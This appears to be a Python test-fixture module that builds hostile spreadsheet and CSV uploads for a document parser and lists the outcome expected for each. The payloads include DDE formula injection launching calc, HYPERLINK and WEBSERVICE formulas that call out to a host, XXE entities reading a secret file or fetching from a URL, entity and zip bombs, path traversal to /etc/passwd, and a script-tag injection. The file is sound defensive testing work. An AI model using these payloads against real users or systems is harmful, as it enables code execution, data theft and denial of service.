"""Rosters and glossaries: workbooks and csv that calculate, fetch or grow."""

from __future__ import annotations

from collections.abc import Callable
from random import Random
from zipfile import ZipInfo

from mintobrief.errors import BadList, BadText, InputError, TooLarge, UnreadableFile
from tests.hostile.documents import package
from tests.hostile.recipe import CANARY, Kept, Refused, Row, holding

_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_BAD = Refused(UnreadableFile)
_NONE = Refused(BadList)
_BOMB = Refused(TooLarge)
_WORDS = Kept("只读格子里看得见的字")


def cell(reference: str, text: str) -> str:
    return f'<c r="{reference}" t="inlineStr"><is><t>{text}</t></is></c>'


_HEAD = "<row>" + cell("A1", "姓名") + cell("B1", "职务") + "</row>"
_WANG = "<row>" + cell("A2", "王芳") + cell("B2", "社区书记") + "</row>"


def sheet(rows: str = _WANG, before: str = "") -> bytes:
    inside = f"<sheetData>{_HEAD}{rows}</sheetData>"
    return f'{before}<worksheet xmlns="{_NS}">{inside}</worksheet>'.encode()


def book(sheets: str = '<sheet name="名册" sheetId="1" r:id="r1"/>', before: str = "") -> bytes:
    head = f'{before}<workbook xmlns="{_NS}" xmlns:r="{_RELS}">'
    return f"{head}<sheets>{sheets}</sheets></workbook>".encode()


def links(target: str = "worksheets/sheet1.xml") -> bytes:
    return (
        f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r1" Target="{target}"/>'
        "</Relationships>"
    ).encode()


def xlsx(
    content: bytes | None = None,
    *more: tuple[str | ZipInfo, bytes],
    workbook: bytes | None = None,
    to: str = "worksheets/sheet1.xml",
) -> bytes:
    return package(
        ("xl/workbook.xml", workbook or book()),
        ("xl/_rels/workbook.xml.rels", links(to)),
        ("xl/worksheets/sheet1.xml", content or sheet()),
        *more,
    )


def shared(texts: str) -> tuple[str, bytes]:
    return "xl/sharedStrings.xml", f'<sst xmlns="{_NS}">{texts}</sst>'.encode()


def excel(name: str, harm: str, content: Callable[[], bytes], fate: Kept | Refused = _WORDS) -> Row:
    return Row(name, harm, holding("a.xlsx", content), fate)


def csv(name: str, harm: str, content: Callable[[], str], fate: Kept | Refused = _WORDS) -> Row:
    return Row(name, harm, holding("a.csv", lambda: content().encode()), fate)


def pointing(index: str) -> bytes:
    row = f'<row><c r="A2" t="s"><v>{index}</v></c></row>'
    return xlsx(sheet(_WANG + row), shared("<si><t>李明</t></si>"))


def valued(value: str) -> bytes:
    return xlsx(sheet(_WANG + f'<row>{cell("A3", "李明")}<c r="B3"><v>{value}</v></c></row>'))


def doing(formula: str) -> bytes:
    row = f'<row>{cell("A3", "李明")}<c r="B3" t="str"><f>{formula}</f><v>主任</v></c></row>'
    return xlsx(sheet(_WANG + row))


def hidden(state: str) -> bytes:
    sheets = (
        f'<sheet name="暗" sheetId="1" state="{state}" r:id="r2"/>'
        '<sheet name="名册" sheetId="2" r:id="r1"/>'
    )
    return xlsx(workbook=book(sheets))


def many_sheets() -> bytes:
    """Twenty sheets that are all one part of half a million cells."""
    sheets = "".join(f'<sheet name="名册{at}" sheetId="{at}" r:id="r1"/>' for at in range(20))
    chance = Random(1)  # noqa: S311
    rows = (
        "<row>" + "".join(f"<c><v>{chance.random():.3f}</v></c>" for _ in range(40)) + "</row>"
        for _ in range(4000)
    )
    return xlsx(sheet("".join(rows)), workbook=book(sheets))


_LAUGHS = '<!DOCTYPE x [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'

_BOOKS = (
    excel(
        "dde", "公式启动计算器", lambda: doing("cmd|'/c calc'!A1"), Kept("公式不算，只看存下的结果")
    ),
    excel(
        "hyperlink",
        "公式把格子发到网上",
        lambda: doing('HYPERLINK("http://127.0.0.1:1?"&amp;A1)'),
        Kept("公式不算，只看存下的结果"),
    ),
    excel(
        "webservice",
        "公式去网上取",
        lambda: doing('WEBSERVICE("http://127.0.0.1:1")'),
        Kept("公式不算，只看存下的结果"),
    ),
    excel(
        "outside-book",
        "引用别的工作簿",
        lambda: xlsx(sheet(), ("xl/externalLinks/externalLink1.xml", b"<x/>")),
    ),
    excel("macro", "带宏", lambda: xlsx(sheet(), ("xl/vbaProject.bin", b"Attribute VB_Name"))),
    excel(
        "query",
        "打开就查数据库",
        lambda: xlsx(
            sheet(),
            ("xl/connections.xml", b'<connections><connection command="DROP"/></connections>'),
        ),
    ),
    excel(
        "laughs",
        "实体套实体",
        lambda: xlsx(sheet(f"<row>{cell('A2', '&b;')}</row>", _LAUGHS)),
        _NONE,
    ),
    excel(
        "entity-file",
        "外部实体读旁边的秘密",
        lambda: xlsx(
            sheet(
                f"<row>{cell('A2', '&e;')}</row>",
                '<!DOCTYPE x [<!ENTITY e SYSTEM "../secret.txt">]>',
            )
        ),
        _NONE,
    ),
    excel(
        "entity-web",
        "外部实体去内网取",
        lambda: xlsx(
            workbook=book(before='<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:1/x"> %p;]>')
        ),
        _WORDS,
    ),
    excel("string-far", "格子指向第 99 个字，只有 1 个", lambda: pointing("99")),
    excel("string-digits", "格子指向第 5000 位数个字", lambda: pointing("9" * 5000)),
    excel("string-negative", "格子指向第 -1 个字", lambda: pointing("-1")),
    excel("string-wide", "格子指向第“０”个字", lambda: pointing("０")),
    excel("string-superscript", "格子指向第“²”个字", lambda: pointing("²")),
    excel("number-infinite", "数是 1e999", lambda: valued("1e999")),
    excel("number-nan", "数是 NaN", lambda: valued("NaN")),
    excel("number-digits", "数有十万位", lambda: valued("9" * 100_000)),
    excel("number-words", "数是字", lambda: valued("=1+1")),
    excel(
        "column-far",
        "第 18278 列",
        lambda: xlsx(sheet(f"<row>{cell('A2', '王芳')}{cell('ZZZ2', '远')}</row>")),
    ),
    excel(
        "column-letters",
        "一千个字母的列",
        lambda: xlsx(sheet(f"<row>{cell('A2', '王芳')}{cell('Z' * 1000 + '2', '远')}</row>")),
    ),
    excel(
        "row-far",
        "第 9 亿行",
        lambda: xlsx(sheet(f'<row r="999999999">{cell("A999999999", "王芳")}</row>')),
    ),
    excel("rows", "十万行", lambda: xlsx(sheet(_WANG + "<row/>" * 100_000))),
    excel("cells", "一个表当二十个用，共三百万格", many_sheets),
    excel(
        "sheets",
        "五千个表",
        lambda: xlsx(
            workbook=book(
                "".join(f'<sheet name="名册{at}" sheetId="{at}" r:id="r1"/>' for at in range(5000))
            )
        ),
    ),
    excel("bomb", "一个表展开有 100 MB", lambda: xlsx(sheet(" " * (100 << 20))), _BOMB),
    excel(
        "bomb-strings", "字表展开有 100 MB", lambda: xlsx(sheet(), shared(" " * (100 << 20))), _BOMB
    ),
    excel(
        "bomb-aside",
        "旁边一张图展开有 300 MB",
        lambda: xlsx(sheet(), ("xl/media/a.png", bytes(300 << 20))),
        _BOMB,
    ),
    excel("slip", "表在 ../../../secret.txt", lambda: xlsx(to="../../../secret.txt"), _NONE),
    excel("slip-absolute", "表在 /etc/passwd", lambda: xlsx(to="/etc/passwd"), _NONE),
    excel("slip-web", "表在网上", lambda: xlsx(to="http://127.0.0.1:1/a.xml"), _NONE),
    excel("deep", "标记套十万层", lambda: xlsx(sheet("<row>" * 100_000)), _BAD),
    excel("cut-xml", "表断在半中间", lambda: xlsx(sheet()[:-30]), _BAD),
    excel("half", "只拷了一半", lambda: xlsx()[: len(xlsx()) // 2], Refused(InputError)),
    excel("hidden", "藏起来的表", lambda: hidden("hidden"), Kept("藏起来的不读")),
    excel("very-hidden", "藏得更深的表", lambda: hidden("veryHidden"), Kept("藏起来的不读")),
    excel(
        "pinyin",
        "注音里藏字",
        lambda: xlsx(
            sheet('<row><c r="A2" t="s"><v>0</v></c></row>'),
            shared(f"<si><t>王芳</t><rPh><t>{CANARY}</t></rPh></si>"),
        ),
        Kept("注音不读"),
    ),
    excel(
        "script",
        "名字是网页代码",
        lambda: xlsx(sheet(f"<row>{cell('A2', '&lt;script>alert(1)&lt;/script>')}</row>")),
    ),
    excel(
        "names",
        "名字一百万个字",
        lambda: xlsx(sheet(f"<row>{cell('A2', '王' * 1_000_000)}</row>")),
        _BOMB,
    ),
    excel(
        "docx",
        "Word 文档叫 xlsx",
        lambda: package(("word/document.xml", b"<x/>")),
        Refused(InputError),
    ),
    excel("empty-book", "一个表也没有", lambda: xlsx(workbook=book("")), _NONE),
    excel(
        "xls",
        "旧版 xls 叫 xlsx",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(999),
        Refused(InputError),
    ),
)

_CSVS = (
    csv(
        "csv-formula",
        "公式",
        lambda: '姓名,职务\n"=cmd|""/c calc""!A1",主任\n',
        Kept("只是文字；写出去时前面加引号"),
    ),
    csv("csv-field", "一格 20 万字", lambda: '姓名,职务\n"' + "王" * 200_000 + '",主任\n'),
    csv("csv-open", "引号不关", lambda: '姓名,职务\n"王芳,主任\n' * 2000),
    csv("csv-quotes", "十万个引号", lambda: "姓名,职务\n王芳,主任\n" + '"' * 100_000),
    csv("csv-columns", "一行十万格", lambda: "姓名,职务\n王芳,主任" + "," * 100_000),
    csv("csv-rows", "五万行", lambda: "姓名,职务\n" + "王芳,主任\n" * 50_000),
    csv("csv-blank", "只有逗号", lambda: "," * 1000, _NONE),
    csv(
        "csv-controls",
        "终端控制码",
        lambda: "姓名,职务\n王芳\x1b[2J,主任\n" + "李明,物业公司经理\n" * 9,
        Kept("控制符换成空格"),
    ),
    csv("csv-nul", "里面有 NUL", lambda: "姓名,职务\n王\0芳,主任\n", Refused(BadText)),
    csv("csv-returns", "只有回车，没有换行", lambda: '姓名,职务\r"王芳",主任\r'),
    csv(
        "csv-html",
        "网页叫 csv",
        lambda: "<table><tr><td>王芳</td></tr></table>",
        Kept("只是文字，显示时转义"),
    ),
    csv("csv-sylk", "开头是 ID，Excel 会当成 SYLK", lambda: "ID;P\n姓名,职务\n王芳,主任\n"),
    csv("csv-large", "6 MB", lambda: "姓名,职务\n" + "王芳,主任\n" * 400_000, _BOMB),
    csv(
        "csv-words",
        "词表里一词一万种听错的写法",
        lambda: "词,听错的写法\n桩基," + "、".join(f"装{at}" for at in range(10_000)),
    ),
)

ROWS: tuple[Row, ...] = (*_BOOKS, *_CSVS)
